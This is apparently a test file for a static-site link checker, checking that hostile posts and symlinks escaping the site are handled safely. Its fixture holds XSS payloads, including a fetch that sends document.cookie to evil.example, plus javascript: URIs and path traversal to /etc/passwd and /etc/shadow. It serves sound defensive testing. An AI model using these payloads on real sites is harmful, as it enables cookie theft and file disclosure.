import { test } from 'node:test';
import assert from 'node:assert/strict';
import { mkdtempSync, mkdirSync, rmSync, symlinkSync, writeFileSync, realpathSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { MemoryFileSystem, SiteFileSystem, DirectoryEntry, EntryType } from '../../src/core/fileSystem';
import { NodeFileSystem } from '../../src/core/nodeFileSystem';
import { loadSite } from '../../src/core/site';
import { checkSite } from '../../src/core/checkSite';
import { analyzeDocument } from '../../src/core/analyzeDocument';

/** Records every path the engine asks for. */
class Spy implements SiteFileSystem {
  readonly reads: string[] = [];
  readonly listed: string[] = [];
  constructor(private readonly inner: SiteFileSystem) {}
  readFile(path: string): Promise<Uint8Array> {
    this.reads.push(path);
    return this.inner.readFile(path);
  }
  readDirectory(path: string): DirectoryEntry[] | Promise<DirectoryEntry[]> {
    this.listed.push(path);
    return this.inner.readDirectory(path);
  }
  stat(path: string): Promise<{ type: EntryType; size: number } | undefined> {
    return this.inner.stat(path);
  }
}

const HOSTILE_POST = [
  '---',
  'layout: post',
  'title: "<script>alert(1)</script>"',
  "background: 'javascript:alert(1)'",
  'thumbnail: "../../../../etc/passwd"',
  '---',
  '<script>fetch("https://evil.example/steal?c=" + document.cookie)</script>',
  '<img src="/ipe/img/posts/a.png" onerror="alert(1)" onload=alert(2)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
  '<iframe src="https://evil.example/"></iframe>',
  '<div style="background: url(https://evil.example/track.png); behavior: url(x.htc)">x</div>',
  '<style>@import url("https://evil.example/x.css"); body { background: url(//evil.example/y.png) }</style>',
  '![up](../../../../etc/passwd)',
  '![abs](/etc/passwd)',
  '![file](file:///etc/passwd)',
  '![win](C:\\Windows\\System32\\drivers\\etc\\hosts)',
  '![unc](\\\\server\\share\\x.png)',
  '<img src="/ipe/../../etc/passwd">',
  '<img src="%2e%2e/%2e%2e/etc/passwd">',
  '<img srcset="/ipe/img/posts/a.png 1x, ../../../etc/shadow 2x">',
  '![odd space](/ipe/img/posts/a%20b.png) ![odd unicode](/ipe/img/posts/%C3%BC.png) ![hash](/ipe/img/posts/x%23y.png)',
  '![question](/ipe/img/posts/q%3F.png) ![percent](/ipe/img/posts/100%25.png)',
  '',
].join('\n');

function hostileFiles(): Record<string, string> {
  return {
    '_config.yml': 'baseurl: "/ipe"\nurl: "https://ipe.example.org"\n',
    'img/posts/a.png': 'png',
    'img/posts/a b.png': 'png',
    'img/posts/ü.png': 'png',
    'img/posts/x#y.png': 'png',
    'img/posts/q?.png': 'png',
    'img/posts/100%.png': 'png',
    '_posts/2022-01-01-hostile.md': HOSTILE_POST,
    '_posts/2022-01-02-ünï cödé #1?%.md': HOSTILE_POST,
    'odd name #?%.html': '---\ntitle: odd\n---\n<img src="javascript:alert(1)"><img src="/ipe/img/posts/a.png">\n',
  };
}

test('hostile content: no exception, every range inside its document, correctly encoded odd names resolve', async () => {
  const files = hostileFiles();
  const fs = new Spy(new MemoryFileSystem(files));
  const site = await loadSite(fs);
  const result = await checkSite(fs, site);
  assert.equal(result.documents, 3);
  for (const f of result.findings) {
    const text = files[f.file];
    assert.ok(text !== undefined, `finding in an unknown file ${f.file}`);
    assert.ok(f.range.start >= 0 && f.range.start <= f.range.end && f.range.end <= text.length, `${f.code} range in ${f.file}`);
    if (f.raw !== undefined) assert.equal(text.slice(f.range.start, f.range.end), f.raw);
  }
  // Percent-encoded names of files that exist are not reported.
  const post = result.findings.filter((f) => f.file === '_posts/2022-01-01-hostile.md');
  for (const ok of ['/ipe/img/posts/a.png', '/ipe/img/posts/a%20b.png', '/ipe/img/posts/%C3%BC.png', '/ipe/img/posts/x%23y.png', '/ipe/img/posts/q%3F.png', '/ipe/img/posts/100%25.png']) {
    assert.ok(!post.some((f) => f.raw === ok), `${ok} reported: ${post.find((f) => f.raw === ok)?.code}`);
  }
  // Paths that climb out of the site or name system files are reported, never looked up on disk.
  for (const bad of ['../../../../etc/passwd', '/etc/passwd', '/ipe/../../etc/passwd']) {
    assert.ok(post.some((f) => f.raw === bad), `${bad} not reported`);
  }
  // The engine read the config and the documents it checks, nothing else.
  const allowed = new Set(['_config.yml', ...Object.keys(files).filter((p) => /\.(md|html)$/.test(p))]);
  for (const p of fs.reads) assert.ok(allowed.has(p), `read ${p}`);
  assert.ok(fs.listed.every((d) => !d.includes('..') && !d.startsWith('/')));
});

test('hostile content through analyzeDocument alone is stable (same result twice)', async () => {
  const fs = new MemoryFileSystem(hostileFiles());
  const site = await loadSite(fs);
  const a = analyzeDocument(site, '_posts/2022-01-01-hostile.md', HOSTILE_POST);
  const b = analyzeDocument(site, '_posts/2022-01-01-hostile.md', HOSTILE_POST);
  assert.deepEqual(a.findings, b.findings);
  assert.deepEqual(a.references.map((r) => r.ref), b.references.map((r) => r.ref));
});

test('symbolic link loops and links out of the site: loading and checking terminate and read nothing outside', async () => {
  const base = realpathSync(mkdtempSync(join(tmpdir(), 'ipe-hostile-')));
  const siteDir = join(base, 'site');
  const outside = join(base, 'outside');
  try {
    mkdirSync(join(siteDir, '_posts'), { recursive: true });
    mkdirSync(join(siteDir, 'img/posts'), { recursive: true });
    mkdirSync(outside);
    writeFileSync(join(outside, 'secret.md'), '---\ntitle: SECRET-OUTSIDE\n---\n<img src="/SECRET.png">\n');
    writeFileSync(join(outside, 'config.yml'), 'baseurl: "/SECRET-OUTSIDE"\n');
    writeFileSync(join(siteDir, 'img/posts/a.png'), 'png');
    writeFileSync(join(siteDir, '_posts/2022-01-01-ok.md'), '---\nlayout: post\n---\n![a](/img/posts/a.png)\n');
    // Loops: a folder that contains itself, two links pointing at each other, a link to the parent.
    symlinkSync('.', join(siteDir, 'loop'));
    symlinkSync(join(siteDir, 'b'), join(siteDir, 'a'));
    symlinkSync(join(siteDir, 'a'), join(siteDir, 'b'));
    symlinkSync('..', join(siteDir, 'img/posts/up'));
    // Links out of the site: a folder, a post, the config itself, a system file.
    symlinkSync(outside, join(siteDir, 'outside-dir'));
    symlinkSync(join(outside, 'secret.md'), join(siteDir, '_posts/2022-01-02-secret.md'));
    symlinkSync(join(outside, 'config.yml'), join(siteDir, '_config.yml'));
    symlinkSync('/etc/passwd', join(siteDir, 'passwd.md'));

    const node = new NodeFileSystem(siteDir);
    const fs = new Spy(node);
    const site = await loadSite(fs);
    const result = await checkSite(fs, site);
    const files = [...site.allFiles()].sort();
    assert.deepEqual(files, ['_posts/2022-01-01-ok.md', 'img/posts/a.png']);
    assert.equal(result.documents, 1);
    assert.notEqual(site.config.baseurlRaw, '/SECRET-OUTSIDE');
    assert.ok(!JSON.stringify(result.findings).includes('SECRET'));
    // Asked directly, the file system refuses to follow a link out of the site or to climb out.
    await assert.rejects(node.readFile('_posts/2022-01-02-secret.md'));
    await assert.rejects(node.readFile('_config.yml'));
    await assert.rejects(node.readFile('passwd.md'));
    await assert.rejects(node.readFile('outside-dir/secret.md'));
    await assert.rejects(node.readFile('../outside/secret.md'));
    await assert.rejects(node.readFile('a'));
    assert.equal(new TextDecoder().decode(await node.readFile('_posts/2022-01-01-ok.md')).includes('/img/posts/a.png'), true);
  } finally {
    rmSync(base, { recursive: true, force: true });
  }
});
